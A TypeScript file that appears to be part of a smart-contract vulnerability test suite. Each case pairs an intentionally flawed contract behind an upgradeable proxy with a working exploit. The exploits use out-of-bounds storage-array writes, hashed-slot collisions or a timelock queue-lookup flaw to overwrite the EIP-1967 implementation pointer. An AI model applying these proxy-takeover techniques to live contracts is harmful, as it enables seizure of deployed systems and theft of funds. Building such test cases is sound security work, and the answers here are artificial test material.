/** Loops over storage that leave their array, and slots that differ between paths that meet. */
import { type Hex, hexToBigInt, keccak256, pad, stringToHex, toHex } from 'viem'
import type { Attack } from '../attack.ts'
import { type Case, WEAK } from '../case.ts'
import { type Built, type Chain, callData, LOGIC_SLOT, system } from '../chain.ts'
import { execSigned, upgradeCall } from '../safes.ts'
import { EXECUTE, now, QUEUE, queued } from './lists.ts'
import { part } from './lying-getters.ts'

type Draft = Omit<Case, 'cause' | 'truth' | 'by'> & Partial<Pick<Case, 'cause'>>

const timelocked =
  (name: string) =>
  async (chain: Chain): Promise<Built> =>
    system(await chain.uups(name, await chain.timelock()))
const plain =
  (name: string) =>
  async (chain: Chain): Promise<Built> =>
    system(await chain.proxy(await chain.deploy(name), callData('setNumber(uint256)', [1])))

const WORD = 1n << 256n
/** The number of slots from the start of the array in a slot to the pointer. */
const distanceFrom = (slot: number): bigint =>
  (BigInt(LOGIC_SLOT) - hexToBigInt(keccak256(toHex(slot, { size: 32 }))) + WORD) % WORD
/** Slots of the array in logic without an upgrade function, and in logic with an owner. */
const [LIST, OWNED_LIST] = [1, 2]
const NAME = pad(stringToHex('eip1967.proxy.implementation'), { size: 32, dir: 'right' })
const fill = 'fill(uint256,uint256[])'
const sending =
  (signature: string, argsFor: (code: Hex) => readonly unknown[]): Case['exploit'] =>
  ({ send, code }, { address }) =>
    send(address, signature, argsFor(code))

const drafts: readonly Draft[] = [
  {
    name: 'a loop over an array begins at an index of the caller',
    build: plain('StartedLoop'),
    exploit: sending(fill, (code) => [distanceFrom(LIST), [code]]),
  },
  {
    name: 'the caller says how far apart the elements of an array are',
    build: timelocked('SteppedLoop'),
    exploit: sending(fill, (code) => [distanceFrom(OWNED_LIST), [0n, code]]),
  },
  {
    name: 'the distance from the start of an array doubles in each round',
    build: timelocked('DoubledDistance'),
    exploit: sending('settle(uint256,address)', (code) => [distanceFrom(OWNED_LIST), code]),
  },
  {
    name: 'the distance from the start of an array is added to itself',
    build: plain('AlternatingLoops'),
    exploit: sending('settle(uint256,address)', (code) => [distanceFrom(LIST), code]),
  },
  {
    name: 'the distance from the start of an array is a product of numbers of the caller',
    build: plain('FactorLoop'),
    exploit: sending('settle(uint256[],address)', (code) => [[distanceFrom(LIST), 1n], code]),
  },
  {
    name: 'the index is a product of products of small numbers',
    build: plain('NestedProduct'),
    exploit: sending('settle(uint256,uint256,uint256,address)', (code) => [0n, 0n, 1n << 57n, code]),
  },
  {
    name: 'the slot is the start of an array, or the pointer',
    build: plain('EitherPlace'),
    exploit: sending('settle(bool,address)', (code) => [true, code]),
  },
  {
    name: 'a loop begins a few slots before the pointer',
    build: timelocked('NearbyLoop'),
    exploit: sending('fill(uint256[])', (code) => [[0n, 0n, 0n, code]]),
  },
  {
    name: 'a loop runs down from an index of the caller',
    build: plain('DownwardLoop'),
    exploit: sending(fill, (code) => [distanceFrom(LIST) + 1n, [code]]),
  },
  {
    name: 'a loop stores numbers under hashes of names',
    build: plain('HashedNames'),
    exploit: sending('note(bytes32[],uint256[])', (code) => [[NAME], [code]]),
  },
  {
    name: 'the slot is the hash of a name, or an element of a mapping',
    build: timelocked('EitherHash'),
    exploit: sending('settle(bytes32,bool,uint256)', (code) => [NAME, false, code]),
  },
  {
    name: 'an index is compared with the last one of an empty list',
    build: plain('EmptyBound'),
    exploit: sending('replace(uint256,uint256)', (code) => [distanceFrom(LIST), code]),
  },
  {
    name: 'a list is not empty before its last element is removed',
    build: plain('PoppedBound'),
    exploit: async ({ send, code }, { address }) => {
      await send(address, 'push(uint256)', [1n])
      await send(address, 'replace(uint256,uint256)', [distanceFrom(LIST), code])
    },
  },
  {
    name: 'a loop begins at a stored number of the caller',
    build: timelocked('StoredStart'),
    exploit: async ({ send, code }, { address }) => {
      await send(address, 'setEnd(uint256)', [distanceFrom(3)])
      await send(address, 'append(uint256[])', [[code]])
    },
  },
  {
    name: 'the rest of a text is overwritten from a length of the caller on',
    build: plain('UncheckedText'),
    exploit: sending('cut(uint256,uint256,uint256)', (code) => [distanceFrom(LIST), 1n, code]),
  },
  {
    name: 'a queued operation is looked up by either of two hashes',
    cause: 'lying getter',
    build: queued('EitherQueue'),
    exploit: async (attack: Attack, built) => {
      const [safe, controller] = [part(built, 'safe'), part(built, 'controller')]
      const eta = (await now(attack)) + 172_900n
      // The signers queue something harmless.
      const two = [attack.hidden(0), attack.hidden(1)]
      await execSigned(attack, safe, controller, callData(QUEUE, [safe, 0n, '', '0x', eta]), two)
      await attack.wait(173_000)
      const data = upgradeCall(built.address, attack.code)
      await attack.send(controller, EXECUTE, [part(built, 'admin'), BigInt(keccak256('0x')), '', data, eta])
    },
  },
]

export const loops: readonly Case[] = drafts.map((draft) => ({
  by: 'anyone',
  cause: 'second writer',
  ...draft,
  truth: WEAK,
}))
